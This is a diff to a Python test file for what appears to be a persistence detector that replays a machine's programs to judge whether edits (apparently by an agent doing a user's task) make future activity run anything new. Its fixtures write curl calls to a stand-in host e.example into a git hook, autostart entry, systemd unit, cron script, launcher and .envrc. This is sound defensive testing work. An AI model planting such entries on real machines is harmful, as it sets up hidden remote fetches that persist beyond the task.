@@ -232,8 +232,8 @@ def token(place: str) -> str:
     return "p" + str(sorted(PLACES).index(place))
 
 
-def judge(final: dict):
-    return persistence(BASE, final, isolation=ISOLATION)
+def judge(final: dict, footprint: frozenset[str] | None = None):
+    return persistence(BASE, final, isolation=ISOLATION, footprint=footprint)
 
 
 def test_the_baseline_replays_and_runs_every_kind_of_activity_it_has():
@@ -305,13 +305,13 @@ def _drop_line(r: random.Random):
 
 
 # Harmless edits, as changes to a state (they compose): each touches files, several of them on today's list of
-# persistence places, and none makes future activity run anything new.
+# persistence places, and none makes future activity run anything new — and each is read by a replayed program
+# (or is no change for its reader), so each is judged: no harm.
 HARMLESS = {
     "chmod of the bashrc": lambda s, r: s.update({".bashrc": {**s[".bashrc"], "mode": r.choice(["0600", "0640"])}}),
     "chmod of a script": lambda s, r: s.update(
         {"scripts/backup.sh": text(sh("echo backing up"), r.choice(["0700", "0750"]))}
     ),
-    "a data file made executable": lambda s, r: s.update({"docs/notes.md": text("notes\n", "0755")}),
     "a removed line": lambda s, r: _bashrc(s, lambda c: _user_part(c, _drop_line(r))),
     "comments and blank lines": lambda s, r: (
         _bashrc(s, lambda c: c + "\n# " + r.choice(["keep", "todo"]) + "\n\n"),
@@ -337,33 +337,55 @@ HARMLESS = {
     "an executable sample hook": lambda s, r: s.update(
         {".git/hooks/pre-push.sample": text(sh("curl -s https://e.example/s"), "0755")}
     ),
-    "crontab text in the docs": lambda s, r: s.update(
-        {"docs/cron-example.txt": text("*/5 * * * * curl https://e.example/c\n")}
-    ),
-    "a launcher that is not autostart": lambda s, r: s.update(
-        {".local/share/applications/x.desktop": text("[Desktop Entry]\nExec=sh -c 'curl -s https://e.example/l'\n")}
-    ),
     "a hidden autostart entry": lambda s, r: s.update(
         {".config/autostart/x.desktop": text("[Desktop Entry]\nExec=curl -s https://e.example/a\nHidden=true\n")}
     ),
     "a unit nothing starts": lambda s, r: s.update(
         {".config/systemd/user/idle.service": text("[Service]\nExecStart=/bin/sh -c 'curl -s https://e.example/u'\n")}
     ),
+    "a cron script without its executable bit": lambda s, r: s.update(
+        {"etc/cron.daily/sync": text(sh("curl -s https://e.example/c"))}
+    ),
+    "crontab text in the docs": lambda s, r: s.update(  # a document, read by nothing: no program runs one
+        {"docs/cron-example.txt": text("*/5 * * * * curl https://e.example/c\n")}
+    ),
+    "the task's own deliverables": lambda s, r: s.update(
+        {"docs/report.md": text("# report\n"), "src/app.py": text("print('x')\n")}
+    ),
+}
+FOOTPRINT = frozenset({"docs/report.md", "src/app.py"})  # what the user's task itself writes
+# Harmless too, but written where no replayed program reads them (a launcher only a desktop menu reads, an .envrc
+# nothing hooks direnv in for, a file made executable that nothing runs): unresolved, never harm and never safe —
+# their reader may be a program the replay does not have.
+UNREAD = {
+    "a data file made executable": lambda s, r: s.update({"docs/notes.md": text("notes\n", "0755")}),
+    "a launcher that is not autostart": lambda s, r: s.update(
+        {".local/share/applications/x.desktop": text("[Desktop Entry]\nExec=sh -c 'curl -s https://e.example/l'\n")}
+    ),
     "an envrc without direnv": lambda s, r: s.update({"proj/.envrc": text("curl -s https://e.example/e\n")}),
-    "deliverables": lambda s, r: s.update({"docs/report.md": text("# report\n"), "src/app.py": text("print('x')\n")}),
 }
 
 
 def harmless(*edits: str, rng: random.Random | None = None) -> dict:
     state = final_with()
     for edit in edits:
-        HARMLESS[edit](state, rng or random.Random(edit))
+        {**HARMLESS, **UNREAD}[edit](state, rng or random.Random(edit))
     return state
 
 
 def test_harmless_edits_together_run_nothing_new():
-    found = judge(harmless(*sorted(HARMLESS)))
+    found = judge(harmless(*sorted(HARMLESS)), FOOTPRINT)
     assert not found.findings and found.judged, (found.findings, found.unjudged)
+
+
+def test_files_no_replayed_program_reads_are_unresolved_never_safe():
+    found = judge(harmless(*sorted(UNREAD)))
+    assert not found.findings, found.findings
+    assert {u.reason for u in found.unjudged} == {"unread"}, found.unjudged
+    unread = {u.detail.split(":", 1)[0] for u in found.unjudged}
+    assert unread == {"docs/notes.md", ".local/share/applications/x.desktop", "proj/.envrc"}
+    # the same files as the task's own writes: nothing to judge
+    assert judge(harmless(*sorted(UNREAD)), frozenset(unread)).judged
 
 
 def test_a_deleted_bashrc_runs_only_the_machines_defaults():
@@ -374,14 +396,14 @@ def test_a_deleted_bashrc_runs_only_the_machines_defaults():
 @pytest.mark.slow
 @pytest.mark.parametrize("edit", sorted(HARMLESS))
 def test_each_harmless_edit_alone_runs_nothing_new(edit):
-    found = judge(harmless(edit))
+    found = judge(harmless(edit), FOOTPRINT)
     assert not found.findings and found.judged, (edit, found.findings, found.unjudged)
 
 
 @settings(max_examples=3, derandomize=True)
 @given(st.lists(st.sampled_from(sorted(HARMLESS)), min_size=2, max_size=4, unique=True), st.randoms())
 def test_compositions_of_harmless_edits_run_nothing_new(edits, rng):
-    found = judge(harmless(*edits, rng=rng))
+    found = judge(harmless(*edits, rng=rng), FOOTPRINT)
     assert not found.findings and found.judged, (edits, found.findings)
 
 
